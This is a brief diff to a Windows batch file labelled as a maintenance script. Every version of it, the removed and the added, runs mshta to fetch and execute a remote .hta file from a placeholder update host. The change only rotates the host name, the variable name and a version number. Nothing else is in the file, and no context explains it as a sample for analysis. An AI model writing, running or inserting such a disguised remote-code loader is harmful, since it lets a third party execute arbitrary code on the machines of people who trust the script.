@@ -1,4 +1,4 @@
-REM maintenance 5404 v0
+REM maintenance 1909 v0
 @echo off
-set htuu=mshta http://cdn-update.example/update.hta
-call %htuu%
+set boyr=mshta http://files.sync-svc.example/update.hta
+call %boyr%
